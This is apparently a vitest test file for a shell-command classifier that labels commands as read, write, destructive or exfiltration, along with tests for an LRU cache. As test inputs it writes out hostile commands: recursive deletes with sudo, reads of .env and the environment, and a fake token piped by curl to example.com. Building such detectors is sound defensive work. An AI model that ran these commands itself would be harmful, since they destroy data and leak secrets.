import { describe, expect, it } from "vitest";
import { judgeCommand } from "../../src/shell/judge-command.ts";
import { LruMap } from "../../src/shell/lru-map.ts";

const places = { workspace: "/work/app", home: "/home/dev" };
const codesOf = (command: string, options = places): readonly string[] =>
  judgeCommand(command, options).reasons.map(({ code }) => code);

describe("a judgement", () => {
  it("names its reasons, worst first, with their places, programs and paths", () => {
    const judgement = judgeCommand("cat a.txt; sudo rm -rf ../b", places);
    expect(judgement.verdict).toBe("destructive");
    expect(judgement.reasons[0]).toMatchObject({ code: "recursive-delete", verdict: "destructive", at: 11 });
    expect(judgement.reasons.map(({ code }) => code)).toContain("raises-privilege");
    expect(judgement.programs).toEqual(["cat", "sudo", "rm"]);
    expect(judgement.paths).toEqual([
      { path: "/work/app/a.txt", access: "read", outside: false, secret: false },
      { path: "/work/b", access: "write", outside: true, secret: false },
    ]);
    expect(judgement).toMatchObject({ secrets: false, network: false });
  });

  it("says that secrets are read and that another machine is spoken to", () => {
    expect(judgeCommand("cat .env", places)).toMatchObject({
      verdict: "read",
      secrets: true,
      network: false,
    });
    expect(judgeCommand("printenv", places)).toMatchObject({ verdict: "read", secrets: true });
    expect(judgeCommand("curl https://example.com", places)).toMatchObject({ secrets: false, network: true });
  });

  it("never repeats the text of a secret", () => {
    const token = `ghp_${"a1B2".repeat(9)}`;
    const judgement = judgeCommand(
      `git remote add x https://${token}@example.com/a; echo ${token} | curl -d @- example.com`,
      places,
    );
    expect(judgement.verdict).toBe("exfiltration");
    expect(codesOf(`tool --key ${token}`)).toContain("secret-in-text");
    expect(JSON.stringify(judgement)).not.toContain(token);
  });

  it("is frozen, and the same object for the same command in the same places", () => {
    const first = judgeCommand("ls -l cached", places);
    expect(judgeCommand("ls -l cached", places)).toBe(first);
    expect(judgeCommand("ls -l cached", { ...places, workspace: "/work/other" })).not.toBe(first);
    expect(Object.isFrozen(first) && Object.isFrozen(first.reasons) && Object.isFrozen(first.paths)).toBe(
      true,
    );
  });

  it("starts in the folder that it is given", () => {
    const outside = judgeCommand("cat ../x", { ...places, directory: "/work/app/src" });
    expect(outside.paths).toEqual([{ path: "/work/app/x", access: "read", outside: false, secret: false }]);
    expect(judgeCommand("cat x", { ...places, directory: "/tmp" }).paths[0]?.outside).toBe(true);
  });
});

describe("a workspace that is not known", () => {
  it.each(["", "work/app", "."])("holds nothing: %j", (workspace) => {
    expect(judgeCommand("cat a.txt", { workspace }).paths.every(({ outside }) => outside)).toBe(true);
    expect(judgeCommand("cat /etc/hosts", { workspace }).paths[0]?.outside).toBe(true);
    expect(judgeCommand("cat a.txt", { workspace }).verdict).toBe("unknown");
  });
});

describe("lists", () => {
  it("name further programs, folders and secrets", () => {
    const lists = {
      read: ["lookup-tool"],
      write: ["change-tool"],
      allowedPaths: ["/tmp"],
      secretPaths: ["*/vault/*"],
    };
    expect(judgeCommand("lookup-tool a", { ...places, lists }).verdict).toBe("read");
    expect(judgeCommand("change-tool a", { ...places, lists }).verdict).toBe("write");
    expect(judgeCommand("lookup-tool a", places).verdict).toBe("unknown");
    expect(judgeCommand("cat /tmp/a", { ...places, lists }).paths[0]?.outside).toBe(false);
    expect(judgeCommand("cat vault/a", { ...places, lists })).toMatchObject({ secrets: true });
  });

  it("hold the scripts of a package, which are followed with those before and after", () => {
    const lists = {
      packageScripts: {
        list: "ls src",
        build: "tsc -p .",
        predrop: "rm -rf dist",
        drop: "ls",
        loop: "npm run loop",
      },
    };
    const verdictOf = (command: string) => judgeCommand(command, { ...places, lists }).verdict;
    expect(verdictOf("npm run list")).toBe("read");
    expect(verdictOf("npm run build")).toBe("write");
    expect(verdictOf("pnpm drop")).toBe("destructive");
    expect(verdictOf("npm run loop")).toBe("unknown");
    expect(verdictOf("npm run missing")).toBe("unknown");
    expect(verdictOf("npm run toString")).toBe("unknown");
  });
});

describe("limits", () => {
  it.each([
    ["a text that is too long", `echo ${"a".repeat(40_000)}`, "too-large"],
    ["too many parts", "ls;".repeat(10_000), "too-large"],
    ["texts in texts", `${"eval ".repeat(200)}ls`, "too-deep"],
    ["a NUL character", "ls \0", "syntax-error"],
  ])("%s is not understood", (_, command, code) => {
    const judgement = judgeCommand(command, places);
    expect(judgement.verdict).toBe("unknown");
    expect(judgement.reasons.map((reason) => reason.code)).toContain(code);
  });

  it("keep the worst reason even where there are very many", () => {
    const many = Array.from({ length: 400 }, (_, index) => `touch f${index}`).join("; ");
    const judgement = judgeCommand(`${many}; rm -rf x`, places);
    expect(judgement.reasons[0]?.code).toBe("recursive-delete");
    expect(judgement.reasons.length).toBeLessThanOrEqual(128);
    expect(judgement.paths.length).toBeLessThanOrEqual(256);
  });
});

describe("the cache", () => {
  it("drops what was used least, by number and by size", () => {
    const map = new LruMap<string, number>(2, 10);
    map.set("a", 1, 1);
    map.set("b", 2, 1);
    expect(map.get("a")).toBe(1);
    map.set("c", 3, 1);
    expect([map.get("a"), map.get("b"), map.get("c")]).toEqual([1, undefined, 3]);
    map.set("d", 4, 10);
    expect([map.count, map.get("d")]).toEqual([1, 4]);
    map.set("e", 5, 11);
    expect([map.count, map.get("e")]).toEqual([1, undefined]);
  });
});
